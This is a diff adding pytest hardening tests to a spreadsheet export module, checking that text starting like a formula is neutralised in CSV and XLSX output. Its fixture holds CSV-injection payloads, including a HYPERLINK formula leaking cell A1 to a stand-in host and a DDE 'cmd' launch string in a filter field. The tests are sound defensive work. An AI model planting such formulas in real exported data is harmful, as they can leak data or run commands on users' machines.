@@ -75,3 +75,31 @@ def test_empty_table_exports_its_header():
     assert export.csv_bytes(t).decode("utf-8-sig").startswith("Raison sociale;")
     wb = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(t)))
     assert wb["Données"].max_row == 1
+
+
+# ---------- hardening: formulas in returned text never run in the analyst's spreadsheet ----------
+
+HOSTILE = pl.DataFrame({
+    "raison_sociale": ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+33 1 23", "-2+3", "@SUM(A1)",
+                       "\tTab", "Jardins = bons"],
+    "chiffre_affaires": [-1500.5, 10.0, -2.0, 0.0, 1.0, 2.0],
+})
+HOSTILE_TABLE = export.Table(df=HOSTILE, colonnes=("raison_sociale", "chiffre_affaires"), nom="x", titre="x",
+                             filtres=(("Recherche", "=cmd|' /C calc'!A0"),))
+
+
+def test_csv_text_cells_starting_like_a_formula_are_neutralised_numbers_keep_their_sign():
+    rows = export.csv_bytes(HOSTILE_TABLE).decode("utf-8-sig").split("\r\n")[1:-1]
+    assert rows == ['"\'=HYPERLINK(""http://x.example/?""&A1,""clic"")";-1500,5', "'+33 1 23;10", "'-2+3;-2",
+                    "'@SUM(A1);0", "'\tTab;1", "Jardins = bons;2"]
+
+
+def test_xlsx_text_cells_are_text_not_formulas():
+    wb = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(HOSTILE_TABLE)))
+    ws = wb["Données"]
+    names = [ws.cell(row=i, column=1) for i in range(2, 8)]
+    assert all(c.data_type == "s" for c in names)  # strings, never formulas ("f")
+    assert [c.value[:2] for c in names[:5]] == ["'=", "'+", "'-", "'@", "'\t"]
+    assert ws.cell(row=2, column=2).value == -1500.5  # a negative number stays a number
+    filtres = {r[0].value: r[1].value for r in wb["Filtres"].iter_rows()}
+    assert filtres["Recherche"].startswith("'=")
